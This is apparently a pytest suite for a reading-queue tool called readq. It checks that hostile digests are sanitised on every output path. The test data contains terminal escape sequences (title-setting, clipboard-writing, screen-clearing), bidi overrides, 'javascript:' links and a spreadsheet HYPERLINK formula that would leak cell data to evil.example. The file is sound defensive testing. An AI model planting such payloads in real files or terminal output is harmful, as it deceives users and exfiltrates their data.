"""A digest is untrusted input: escape sequences, bidi overrides, formulas and `javascript:` links.

What must hold: no stored text field holds a control or bidi character; no output path (`list`,
`show`, `cite` in every format, `export` in every format, `--json`, the TUI's detail pane and
rows) emits one, even for a record an older readq stored unclean; the CSV export has no cell a
spreadsheet would run as a formula; a `javascript:` link is never kept. `doctor --repair` cleans
an old library.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from readq.cli import cli
from readq.digest import parse_bytes, parse_text
from readq.library import Library
from readq.model import Entry, Source
from readq.textclean import clean, clean_json_bytes, has_unsafe, neutralize_cell

HOSTILE = Path(__file__).parent / "data" / "hostile" / "hostile_digest.md"
SEED = Path(__file__).resolve().parent.parent / "sample_digests" / "004_d742356525c87248.txt"
# Any byte a terminal would act on: C0 except \t \n (and \r, checked apart), DEL, C1, bidi.
UNSAFE_OUT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
EXPORTS = ("json", "md", "bibtex", "csv", "ris", "csljson")
CITES = ("bibtex", "markdown", "text")


def run(lib: Path, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--library", str(lib), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def assert_safe(out: str, what: str, crlf: bool = False) -> None:
    if crlf:
        out = out.replace("\r\n", "\n")
    assert "\r" not in out, what
    assert UNSAFE_OUT.search(out) is None, (what, UNSAFE_OUT.search(out))
    assert "\\u001b" not in out.lower() and "\\u009b" not in out.lower(), what
    assert "javascript:" not in out.lower(), what


def test_clean_removes_sequences_whole_and_keeps_text() -> None:
    assert clean("a\x1b]0;pwned\x07b") == "ab"
    assert clean("a\x1b]52;c;ZWNobw==\x1b\\b") == "ab"
    assert clean("\x1b[31mred\x1b[0m \u202egnp.exe\u202c \x9b2Jx\x7f") == "red gnp.exe x"
    assert clean("keep\ttabs\nand lines é 中文 · •") == "keep\ttabs\nand lines é 中文 · •"
    text = "already clean"
    assert clean(text) is text


def test_neutralize_cell() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralize_cell(bad) == "'" + bad
    assert neutralize_cell("Plain title") == "Plain title"


def test_clean_json_bytes_keeps_escaped_backslashes() -> None:
    assert clean_json_bytes(b'{"t":"a\\u001bb"}') == b'{"t":"ab"}'
    assert clean_json_bytes(b'{"t":"a\\\\u001bb"}') == b'{"t":"a\\\\u001bb"}'  # a literal backslash
    assert clean_json_bytes('{"t":"a\u202eb\u0085c"}'.encode()) == b'{"t":"abc"}'
    json.loads(clean_json_bytes(b'{"t":"x\\u0007\\u009b\\u202e"}'))


def test_hostile_digest_fields_are_clean() -> None:
    result = parse_bytes(HOSTILE.read_bytes(), source=HOSTILE.name, today=__import__("datetime").date(2026, 1, 1))
    assert len(result.entries) == 3
    for e in result.entries:
        for text in (e.title, e.abstract, e.org or "", *e.authors, *e.links):
            assert not has_unsafe(text), text
        assert all(u.startswith(("http://", "https://")) for u in e.links)
    first = result.entries[0]
    assert first.title == "Terminal Escapes in Titles"  # the link survives the sequence inside it
    assert "pwned" not in first.title and "ZWNobyBwd25lZA" not in first.abstract
    assert result.entries[1].links == ("https://github.com/example/safe",)
    assert "click me" in result.entries[1].abstract


@pytest.mark.parametrize("insert", ["\x1b]0;evil\x07", "\x1b]52;c;Zm9v\x07", "\u202e", "\x9b31m", "\x1b[2J", "\x7f"])
def test_sequences_inside_a_seed_digest_change_nothing_else(insert: str) -> None:
    import datetime as dt

    text = SEED.read_text(encoding="utf-8")
    clean_result = parse_text(text, source="s.txt", today=dt.date(2026, 1, 1))
    # Inserted into titles and abstracts alike (after every 97th character that is a letter).
    dirty = "".join(ch + insert if i % 97 == 0 and ch.isalpha() else ch for i, ch in enumerate(text))
    dirty_result = parse_bytes(dirty.encode("utf-8"), source="s.txt", today=dt.date(2026, 1, 1))
    assert [e.title for e in dirty_result.entries] == [e.title for e in clean_result.entries]
    for e in dirty_result.entries:
        assert not has_unsafe(e.title) and not has_unsafe(e.abstract)


@pytest.fixture
def hostile_lib(tmp_path: Path) -> Path:
    lib = tmp_path / "lib"
    result = CliRunner().invoke(cli, ["--library", str(lib), "import", str(HOSTILE)])
    assert result.exit_code == 0, result.output
    assert_safe(result.output, "import output")
    return lib


def _ids(lib: Path) -> list[str]:
    return [line.split()[0] for line in run(lib, "list").splitlines()]


def assert_every_output_safe(lib: Path) -> None:
    """`list`, `list --json`, and per paper `show`, `show --json`, `link`, `cite` in every format;
    `export` in every format."""
    assert_safe(run(lib, "list"), "list")
    assert_safe(run(lib, "list", "--json"), "list --json")
    for pid in _ids(lib):
        for args in (("show", pid), ("show", pid, "--json"), ("link", pid),
                     *(("cite", pid, "--format", fmt) for fmt in CITES)):
            assert_safe(run(lib, *args), " ".join(args))
    for fmt in EXPORTS:
        assert_safe(run(lib, "export", "--format", fmt), f"export {fmt}", crlf=fmt == "csv")


def test_every_output_path_is_safe(hostile_lib: Path) -> None:
    assert_every_output_safe(hostile_lib)


def test_csv_export_has_no_live_formula(hostile_lib: Path) -> None:
    rows = list(csv.reader(io.StringIO(run(hostile_lib, "export", "--format", "csv"))))
    assert len(rows) == 4
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    titles = {row[1] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the paper\")" in titles
    assert "'@SUM(1+1) Isolates and +Plus -Minus" in titles


def _old_library(tmp_path: Path) -> Path:
    """A library holding what an older readq stored unclean (written without the parser)."""
    lib = tmp_path / "old"
    Library(lib).ingest([
        Entry(title="Old \x1b]0;retitled\x07record \u202eevil", abstract="Clip \x1b]52;c;Zm9v\x07 board \x9b2J.",
              authors=("A\x1b[31m. Author",), org="Org\x7f", links=("javascript:alert(1)", "https://ok.example/x"),
              source=Source(file="old\x1b[2J.txt", digest_date="2025-01-01")),
    ])
    for name in ("papers.json", "index.json"):  # as an older readq wrote them: no `clean_text` stamp
        path = lib / name
        path.write_text(path.read_text(encoding="utf-8").replace('"clean_text":1', '"clean_text":0'), encoding="utf-8")
    assert "\\u001b" in (lib / "papers.json").read_text(encoding="utf-8")
    return lib


def test_old_unclean_record_is_safe_on_every_output_path(tmp_path: Path) -> None:
    assert_every_output_safe(_old_library(tmp_path))


def test_tui_detail_and_row_of_an_old_record_are_safe(tmp_path: Path) -> None:
    from rich.console import Console

    from readq.tui.widgets.detail import render_paper

    paper = Library(_old_library(tmp_path)).load().papers()[0]
    console = Console(record=True, width=100, color_system=None)
    console.print(render_paper(paper, ""))
    assert_safe(console.export_text(), "detail pane")


def test_doctor_reports_and_repair_cleans_an_old_library(tmp_path: Path) -> None:
    lib = _old_library(tmp_path)
    out = run(lib, "doctor")
    assert "control or bidi characters" in out
    out = run(lib, "doctor", "--repair")
    assert "cleaned control or bidi characters from 1 record line(s)" in out
    stored = (lib / "papers.json").read_bytes()
    assert clean_json_bytes(stored) is stored
    paper = Library(lib).load().papers()[0]
    assert paper.title == "Old record evil"
    assert "control or bidi" not in run(lib, "doctor")


@pytest.mark.parametrize("insert", ["\x07", "\x08", "\x0e", "\x1f", "\u0085", "\u2067"])
def test_lone_control_characters_never_reach_a_field(insert: str) -> None:
    """Characters that break no structure are removed from each field as it is collapsed."""
    import datetime as dt

    text = SEED.read_text(encoding="utf-8")
    dirty = "".join(ch + insert if i % 53 == 0 and ch.isalpha() else ch for i, ch in enumerate(text))
    for result in (parse_bytes(dirty.encode("utf-8"), source="s.txt", today=dt.date(2026, 1, 1)),
                   parse_text(dirty, source="s.txt", today=dt.date(2026, 1, 1))):
        assert result.entries
        for e in result.entries:
            for value in (e.title, e.abstract, e.org or "", *e.authors, *e.links):
                assert not has_unsafe(value), value


def test_answers_from_the_servers_are_cleaned_too() -> None:
    """`resolve` and `fetch` store what Hugging Face and arXiv answer: untrusted like a digest."""
    from readq.identity.record import Found

    found = Found(arxiv_id="2501.00001", title="T\x1b]0;x\x07itle\u202e", source="hf",
                  authors=("A\x1b[31mlice",), abstract="Ab\x9b2Jstract", org="O\x07rg",
                  links=("javascript:alert(1)", "https://ok.example/"))
    assert (found.title, found.authors, found.abstract, found.org, found.links) == (
        "Title", ("Alice",), "Abstract", "Org", ("https://ok.example/",))
